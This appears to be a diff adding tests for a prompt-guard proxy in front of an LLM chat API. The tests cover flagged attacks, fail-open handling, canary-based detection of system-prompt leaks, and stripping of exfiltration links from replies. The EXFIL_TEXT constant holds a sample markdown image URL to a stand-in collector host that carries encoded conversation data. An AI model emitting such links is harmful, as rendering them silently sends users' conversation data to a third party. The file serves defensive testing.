@@ -71,3 +71,87 @@ def test_benign_text_passes(envoy, mock, case, text):
         reply = send(envoy, CHAT, text)
     assert reply.status_code == 200
     assert reply.json()["choices"][0]["message"]["content"] == "You said: " + text
+
+
+ALL_OFF = {category: "off" for category in (
+    "instruction_override", "jailbreak", "system_prompt_extraction", "exfiltration",
+    "delimiter_injection", "indirect_injection", "sqli", "xss", "obfuscation")}
+# A markdown image whose URL carries data to a host nobody allowed: rendering it sends the data.
+EXFIL_TEXT = ("Sure. ![status](https://collector.example.net/pixel.png?data=c2VjcmV0LWNvbnZlcnNhdGlvbi1zdW1tYXJ5LTEyMzQ1Njc4)")
+CANARY = "PGCANARY-7f3a9c2e"
+
+
+def stream_text(envoy, text):
+    """POST a streamed chat request; return (status, content text, raw body)."""
+    body = {"model": "m", "stream": True, "messages": [{"role": "user", "content": text}]}
+    with httpx.stream("POST", envoy.url(CHAT), content=json.dumps(body),
+                      headers={"content-type": "application/json"},
+                      timeout=harness.REQUEST_TIMEOUT_S) as reply:
+        raw = b"".join(reply.iter_bytes()).decode()
+    content = ""
+    for line in raw.splitlines():
+        if line.startswith("data: {"):
+            event = json.loads(line[len("data: "):])
+            for choice in event.get("choices", []):
+                content += (choice.get("delta") or {}).get("content") or ""
+    return reply.status_code, content, raw
+
+
+def test_flag_action_forwards_with_verdict_headers(envoy_factory, mock):
+    envoy = envoy_factory.start({"threats": {"actions": {"instruction_override": "flag", "jailbreak": "flag",
+                                                         "system_prompt_extraction": "flag"}}})
+    text = ATTACKS[0][1]
+    with mock.expect_one_request():
+        reply = send(envoy, CHAT, text)
+    assert reply.status_code == 200
+    assert float(reply.headers["x-prompt-guard-score"]) >= 0.5
+    assert "instruction_override" in reply.headers["x-prompt-guard-categories"]
+    assert reply.headers["x-prompt-guard-rules"].startswith("PG-")
+    flagged = envoy.metrics().with_name("prompt_guard_threat_verdicts")
+    assert any(labels.get("action") == "flag" and v >= 1 for labels, v in flagged)
+
+
+def test_fail_open_never_lets_an_attack_through(envoy_factory, mock):
+    envoy = envoy_factory.start({"fail_open": True})
+    with mock.expect_no_request():
+        reply = send(envoy, CHAT, ATTACKS[0][1])
+    assert reply.status_code == 403
+    assert "x-prompt-guard-fail-open" not in reply.headers
+
+
+def test_exfiltration_link_in_a_buffered_reply_is_removed(envoy_factory, mock):
+    envoy = envoy_factory.start({"threats": {"actions": ALL_OFF}})
+    with mock.expect_one_request():
+        reply = send(envoy, CHAT, EXFIL_TEXT)
+    assert reply.status_code == 200
+    content = reply.json()["choices"][0]["message"]["content"]
+    assert "collector.example.net" not in content
+    assert content.startswith("[prompt-guard removed this content: PG-RP-002")
+    found = envoy.metrics().value("prompt_guard_reply_findings", kind="exfiltration_link")
+    assert found >= 1
+
+
+def test_allowed_host_link_passes(envoy_factory, mock):
+    envoy = envoy_factory.start({"threats": {"actions": ALL_OFF,
+                                             "reply": {"allowed_link_hosts": ["example.net"]}}})
+    reply = send(envoy, CHAT, EXFIL_TEXT)
+    assert reply.json()["choices"][0]["message"]["content"] == "You said: " + EXFIL_TEXT
+
+
+def test_exfiltration_link_in_a_stream_ends_it_with_an_error_event(envoy_factory, mock):
+    envoy = envoy_factory.start({"threats": {"actions": ALL_OFF}})
+    status, content, raw = stream_text(envoy, EXFIL_TEXT)
+    assert status == 200
+    # The link never completes on the client side, and the stream says why it stopped.
+    assert "pixel.png?data=c2VjcmV0LWNvbnZlcnNhdGlvbi1zdW1tYXJ5LTEyMzQ1Njc4)" not in content
+    assert '"code":"prompt_guard_reply_blocked"' in raw.replace(" ", "")
+    assert "[DONE]" not in raw
+
+
+def test_canary_in_a_reply_is_a_system_prompt_leak(envoy_factory, mock):
+    envoy = envoy_factory.start({"threats": {"actions": ALL_OFF, "canary": CANARY}})
+    reply = send(envoy, CHAT, f"Here is what I was told: {CANARY} and more.")
+    content = reply.json()["choices"][0]["message"]["content"]
+    assert CANARY not in content
+    assert "PG-RP-001" in content
+    assert envoy.metrics().value("prompt_guard_reply_findings", kind="canary_leak") >= 1
